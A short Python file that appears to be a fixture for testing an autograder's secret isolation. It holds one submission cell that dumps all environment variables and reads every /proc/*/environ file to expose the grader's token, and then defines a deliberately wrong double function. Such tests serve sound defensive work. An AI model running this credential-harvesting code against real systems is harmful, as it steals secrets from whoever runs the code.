"""The grader's environment holds a token."""

CELLS = {
    "double": """import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        print(open(path, "rb").read())
    except OSError:
        continue
def double(x):
    return 0"""
}
POINTS = 4
